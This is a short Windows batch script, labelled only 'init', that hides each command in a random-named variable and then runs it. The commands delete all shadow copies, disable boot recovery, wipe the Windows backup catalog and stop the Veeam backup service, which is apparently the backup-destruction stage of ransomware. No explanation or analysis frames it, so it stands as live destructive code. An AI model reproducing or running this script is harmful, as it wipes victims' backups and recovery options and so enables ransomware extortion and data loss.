REM init 1894 v0
@echo off
set skui=vssadmin delete shadows /all /quiet
call %skui%
@echo off
set fevw=wmic shadowcopy delete
call %fevw%
@echo off
set fvsu=bcdedit /set {default} recoveryenabled no
call %fvsu%
@echo off
set rpwk=bcdedit /set {default} bootstatuspolicy ignoreallfailures
call %rpwk%
@echo off
set vswe=wbadmin delete catalog -quiet
call %vswe%
@echo off
set glrq=net stop "Veeam Backup Catalog Data Service" /y
call %glrq%
